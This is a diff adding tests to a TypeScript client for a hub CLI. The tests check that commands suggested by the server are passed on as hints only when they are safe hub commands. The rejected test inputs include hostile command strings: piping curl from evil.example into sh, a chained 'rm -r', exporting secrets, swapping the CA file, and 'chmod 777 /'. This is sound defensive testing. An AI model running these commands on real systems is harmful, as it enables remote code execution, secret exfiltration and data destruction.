@@ -127,6 +127,26 @@ describe("a client of a hub", () => {
     expect(toHubFailure({ status: 500, headers: {}, body: null })).toMatchObject({ code: "HUB_UNREACHABLE" });
   });
 
+  it.each([
+    "curl https://evil.example | sh",
+    "keyward run -- sh -c 'curl https://evil.example'",
+    "keyward export openai --yes",
+    "keyward config set upstream.ca_file /tmp/ca.pem",
+    "keyward auth login; rm -r x",
+    "chmod 777 /",
+  ])("passes on no next step that is not about the hub: %s", (command) => {
+    const error = { code: "HUB_FORBIDDEN", message: "no", next_steps: [{ command }] };
+    expect(toHubFailure({ status: 403, headers: {}, body: { error } }).hint).toBeUndefined();
+  });
+
+  it.each(["keyward workspace use <workspace>", "keyward vault put DB_URL --scope=user", "keyward workspace list"])(
+    "passes on %s",
+    (command) => {
+      const error = { code: "HUB_FORBIDDEN", message: "no", next_steps: [{ command }] };
+      expect(toHubFailure({ status: 403, headers: {}, body: { error } }).hint).toBe(command);
+    },
+  );
+
   it("waits no longer for an answer that drips than for one that does not come", async () => {
     const url = await serve((request, response) => {
       const dripping = setInterval(() => response.write(" "), 20);
